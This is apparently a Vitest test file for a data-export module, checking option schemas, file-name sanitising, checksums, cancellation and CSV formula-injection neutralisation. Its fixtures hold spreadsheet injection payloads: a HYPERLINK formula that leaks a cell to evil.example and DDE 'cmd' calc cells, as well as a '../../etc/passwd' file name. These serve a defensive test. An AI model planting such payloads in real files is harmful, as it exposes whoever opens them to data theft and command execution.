import { createHash } from 'node:crypto';
import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  EXPORT_FORMATS,
  exportBaseName,
  exportOptionsSchema,
  exportSpecSchema,
  exportTable,
  type ExportFormat,
  type ExportResult,
} from '../../../../../shared/domain/exports/export-table';
import { ValidationError } from '../../../../../shared/kernel/app-error';
import { openExportWorkspace, type ExportWorkspace } from './support/export-workspace';

let ws: ExportWorkspace;
beforeAll(async () => {
  ws = await openExportWorkspace();
});
afterAll(async () => {
  await ws.close();
});

/** Cells a spreadsheet would run as formulas (OWASP's list of leading characters), and ordinary ones. */
const CELLS: [number, string | null, number][] = [
  [1, '=HYPERLINK("http://evil.example/?"&A1,"Click")', -2.5],
  [2, "+cmd|' /C calc'!A0", 3],
  [3, '@SUM(1+1)', -0.125],
  [4, '-2+3', 1e15],
  [5, '\tleading tab', -1e-7],
  [6, '\rleading CR', 0],
  [7, '-2', -2],
  [8, '+3.5', 3.5],
  [9, 'say "hi", twice\nand again', 42],
  [10, 'plain', -17],
  [11, null, 1],
  [12, '', 2],
];

function cellsSelect(): string {
  const rows = CELLS.map(
    ([id, text, amount]) =>
      `(${id}, ${text === null ? 'NULL' : `'${text.replaceAll("'", "''")}'`}, ${amount}::DOUBLE)`,
  );
  return `SELECT id::INTEGER AS id, text::VARCHAR AS text, amount, (id * -1000)::BIGINT AS whole
          FROM (VALUES ${rows.join(', ')}) AS t(id, text, amount)`;
}

async function sha256(file: string): Promise<string> {
  return createHash('sha256')
    .update(await readFile(file))
    .digest('hex');
}

async function readCsv(file: string): Promise<Record<string, unknown>[]> {
  return ws.engine.query(
    `SELECT * FROM read_csv('${file}', header = true, quote = '"', escape = '"', all_varchar = true, allow_quoted_nulls = false) ORDER BY CAST(id AS INTEGER)`,
  );
}

describe('export options', () => {
  it('accept {} for every format, with defaults', () => {
    for (const format of EXPORT_FORMATS) expect(exportOptionsSchema(format).parse({}).fileName).toBe('data');
    expect(exportOptionsSchema('csv').parse({})).toEqual({
      fileName: 'data',
      neutraliseFormulas: true,
      delimiter: ',',
    });
    expect(exportOptionsSchema('pytorch').parse({ split: { testFraction: 0.2 } })).toEqual({
      fileName: 'data',
      split: { testFraction: 0.2, seed: 42 },
      normalise: false,
    });
  });

  it('refuse options of another format, and contradictions', () => {
    expect(exportOptionsSchema('csv').safeParse({ shards: 2 }).success).toBe(false);
    expect(exportOptionsSchema('pytorch').safeParse({ shards: 2 }).success).toBe(false);
    expect(exportOptionsSchema('parquet').safeParse({ neutraliseFormulas: false }).success).toBe(false);
    expect(
      exportOptionsSchema('huggingface').safeParse({ splitColumn: 's', split: { testFraction: 0.1 } })
        .success,
    ).toBe(false);
    expect(exportOptionsSchema('tensorflow').safeParse({ labelColumn: 'y', splitColumn: 'y' }).success).toBe(
      false,
    );
    expect(exportOptionsSchema('tensorflow').safeParse({ task: 'regression' }).success).toBe(false);
    expect(exportOptionsSchema('huggingface').safeParse({ shards: 0 }).success).toBe(false);
    expect(exportOptionsSchema('pytorch').safeParse({ split: { testFraction: 1 } }).success).toBe(false);
    expect(exportOptionsSchema('csv').safeParse({ delimiter: '"' }).success).toBe(false);
    expect(exportOptionsSchema('csv').safeParse({ delimiter: ';;' }).success).toBe(false);
    expect(exportOptionsSchema('csv').parse({ delimiter: '\t' }).delimiter).toBe('\t');
  });

  it('are one schema discriminated on the format, for request bodies', () => {
    expect(exportSpecSchema.parse({ format: 'jsonl' })).toEqual({
      format: 'jsonl',
      options: { fileName: 'data' },
    });
    expect(exportSpecSchema.safeParse({ format: 'xlsx' }).success).toBe(false);
  });

  it.each([
    ['report.csv', 'report'],
    ['../../etc/passwd', 'passwd'],
    ['C:\\Users\\me\\My Data (final).parquet', 'My_Data_final'],
    ['ünïcode name', 'n_code_name'],
    ['..', 'data'],
    ['', 'data'],
    ['.hidden', 'hidden'],
    ['a'.repeat(300), 'a'.repeat(100)],
  ])('file name %j becomes %j', (name, expected) => {
    expect(exportBaseName(name)).toBe(expected);
    expect(exportOptionsSchema('json').parse({ fileName: name }).fileName).toBe(expected);
  });
});

describe('exportTable', () => {
  it('lists every file it wrote with its size and SHA-256, reports progress up to 1 and leaves no staging behind', async () => {
    const table = await ws.table(
      'contract',
      `SELECT range AS id, range * 0.5 AS x, ['a', 'b', 'c'][range % 3 + 1] AS kind FROM range(12)`,
    );
    for (const format of EXPORT_FORMATS) {
      const outDir = ws.outDir(`contract-${format}`);
      const progress: number[] = [];
      const layout = { labelColumn: 'kind', split: { testFraction: 0.25 } };
      const options = exportOptionsSchema(format).parse({
        fileName: 'my export.v2',
        ...(format === 'pytorch'
          ? layout
          : format === 'huggingface' || format === 'tensorflow'
            ? { ...layout, shards: 2 }
            : {}),
      });
      const result: ExportResult = await exportTable(ws.engine, {
        parquetPath: table,
        outDir,
        format: format as ExportFormat,
        options,
        onProgress: (fraction) => progress.push(fraction),
      });
      expect(result.rows).toBe(12);
      const listed = result.files.map((file) => file.relativePath).sort();
      const onDisk = (await readdir(outDir, { recursive: true, withFileTypes: true }))
        .filter((entry) => entry.isFile())
        .map((entry) =>
          path.relative(outDir, path.join(entry.parentPath, entry.name)).split(path.sep).join('/'),
        )
        .sort();
      expect(onDisk).toEqual(listed);
      for (const file of result.files) {
        const absolute = path.join(outDir, file.relativePath);
        expect(file.bytes).toBe((await readFile(absolute)).length);
        expect(file.sha256).toBe(await sha256(absolute));
      }
      expect(progress.at(-1)).toBe(1);
      expect(progress).toEqual([...progress].sort((a, b) => a - b));
      expect(result.metadata).toMatchObject({ format, fileName: 'my_export.v2' });
    }
  });

  it('stops at the next batch once its signal is aborted, and removes its staging', async () => {
    const controller = new AbortController();
    const attempt = ws.exportAs(
      'aborted',
      'SELECT range AS id, range % 2 AS label FROM range(5000)',
      'tensorflow',
      { labelColumn: 'label', split: { testFraction: 0.5 } },
      {
        batchRows: 500,
        onProgress: (fraction) => {
          if (fraction > 0.2) controller.abort(new Error('the export ran out of time'));
        },
        signal: controller.signal,
      },
    );
    await expect(attempt).rejects.toThrow('the export ran out of time');
    const left = await readdir(ws.outDir('aborted'), { recursive: true });
    expect(left.filter((name) => name.includes('staging'))).toEqual([]);
    expect(left.filter((name) => name.startsWith('data/test'))).toEqual([]);
  });

  describe('csv', () => {
    it('neutralises text cells a spreadsheet would run as formulas, and leaves numbers alone', async () => {
      const { outDir, result } = await ws.exportAs('cells', cellsSelect(), 'csv', { fileName: 'cells' });
      expect(result.files).toMatchObject([
        { relativePath: 'cells.csv', rows: 12, contentType: 'text/csv; charset=utf-8' },
      ]);
      const rows = await readCsv(path.join(outDir, 'cells.csv'));
      expect(rows.map((row) => row['text'])).toEqual([
        `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
        `'+cmd|' /C calc'!A0`,
        `'@SUM(1+1)`,
        `'-2+3`,
        `'\tleading tab`,
        `'\rleading CR`,
        '-2',
        '+3.5',
        'say "hi", twice\nand again',
        'plain',
        null,
        '',
      ]);
      // Numeric columns, negative ones included, are written as numbers, never prefixed.
      expect(rows.map((row) => Number(row['amount']))).toEqual(CELLS.map(([, , amount]) => amount));
      expect(rows.map((row) => row['whole'])).toEqual(CELLS.map(([id]) => String(id * -1000)));

      const text = await readFile(path.join(outDir, 'cells.csv'), 'utf8');
      const lines = text.split('\r\n');
      expect(lines[0]).toBe('id,"text",amount,whole');
      expect(lines[1]).toBe(`1,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",-2.5,-1000`);
      expect(lines[7]).toBe('7,"-2",-2.0,-7000');
      // A missing cell is empty; an empty text is "".
      expect(lines.slice(11, 13)).toEqual(['11,,1.0,-11000', '12,"",2.0,-12000']);
      expect(text.endsWith('\r\n')).toBe(true);
    });

    it('writes every cell as it is with neutraliseFormulas off', async () => {
      const { outDir } = await ws.exportAs('csv-raw', cellsSelect(), 'csv', {
        fileName: 'cells',
        neutraliseFormulas: false,
      });
      const rows = await readCsv(path.join(outDir, 'cells.csv'));
      expect(rows.map((row) => row['text'])).toEqual(CELLS.map(([, text]) => text));
      expect(rows.map((row) => Number(row['amount']))).toEqual(CELLS.map(([, , amount]) => amount));
      const text = await readFile(path.join(outDir, 'cells.csv'), 'utf8');
      expect(text.split('\r\n')[0]).toBe('id,text,amount,whole');
    });

    it('neutralises header cells too, and writes the delimiter asked for', async () => {
      const { outDir } = await ws.exportAs(
        'csv-headers',
        `SELECT 1 AS "=cmd|' /C calc'!A0", 'x;y' AS "@name", -3 AS "-1", 'ok' AS plain`,
        'csv',
        { delimiter: ';' },
      );
      const text = await readFile(path.join(outDir, 'data.csv'), 'utf8');
      expect(text).toBe(`'=cmd|' /C calc'!A0;"'@name";-1;"plain"\r\n1;"x;y";-3;"ok"\r\n`);
    });
  });

  describe('json, jsonl and parquet', () => {
    const typed = `SELECT range::INTEGER AS id, (range - 1.5) / 2 AS x,
                    CASE range WHEN 1 THEN 'nan'::DOUBLE WHEN 2 THEN 'inf'::DOUBLE ELSE range * 0.25 END AS f,
                    'n"a\\me ' || range AS name, range % 2 = 0 AS even, DATE '2024-02-28' + range::INTEGER AS day,
                    [range, range + 1] AS pair
                   FROM range(5)`;

    it('json is one array, jsonl one object a line; NaN and infinities become null', async () => {
      for (const format of ['json', 'jsonl'] as const) {
        const { outDir, result } = await ws.exportAs(`typed-${format}`, typed, format, { fileName: 'typed' });
        const file = path.join(outDir, `typed.${format}`);
        expect(result.files).toMatchObject([
          {
            relativePath: `typed.${format}`,
            rows: 5,
            contentType: format === 'json' ? 'application/json' : 'application/x-ndjson',
          },
        ]);
        const text = await readFile(file, 'utf8');
        const parsed: unknown[] =
          format === 'json'
            ? (JSON.parse(text) as unknown[])
            : text
                .trim()
                .split('\n')
                .map((line) => JSON.parse(line) as unknown);
        expect(parsed).toHaveLength(5);
        expect(parsed[1]).toEqual({
          id: 1,
          x: -0.25,
          f: null,
          name: 'n"a\\me 1',
          even: false,
          day: '2024-02-29',
          pair: [1, 2],
        });
        expect(parsed[2]).toMatchObject({ f: null });
        const read = await ws.engine.query(
          `SELECT id, x, f, name FROM read_json('${file}', format = '${format === 'json' ? 'array' : 'newline_delimited'}') ORDER BY id`,
        );
        expect(read.map((row) => row['x'])).toEqual([-0.75, -0.25, 0.25, 0.75, 1.25]);
        expect(read.map((row) => row['f'])).toEqual([0, null, null, 0.75, 1]);
      }
    });

    it('parquet keeps every column and type', async () => {
      const { outDir, result, table } = await ws.exportAs('typed-parquet', typed, 'parquet', {
        fileName: 'typed',
      });
      const file = path.join(outDir, 'typed.parquet');
      expect(result.files).toMatchObject([
        { relativePath: 'typed.parquet', rows: 5, contentType: 'application/vnd.apache.parquet' },
      ]);
      expect(await ws.engine.describe(`SELECT * FROM read_parquet('${file}')`)).toEqual(
        await ws.engine.describe(`SELECT * FROM read_parquet('${table}')`),
      );
      const [difference] = await ws.engine.query(
        `SELECT count(*)::INTEGER AS n FROM (SELECT * FROM read_parquet('${file}') EXCEPT ALL SELECT * FROM read_parquet('${table}'))`,
      );
      expect(difference).toEqual({ n: 0 });
    });
  });

  it('refuses a label column the table does not have, naming the columns it has and no path', async () => {
    const attempt = ws.exportAs('refuse', 'SELECT 1.5 AS x, 2 AS y', 'huggingface', {
      labelColumn: 'target',
    });
    await expect(attempt).rejects.toBeInstanceOf(ValidationError);
    await expect(attempt).rejects.toMatchObject({
      code: 'EXPORT.COLUMN_NOT_FOUND',
      field: 'options.labelColumn',
      message: 'The table has no column "target"; its columns are "x", "y".',
    });
  });
});
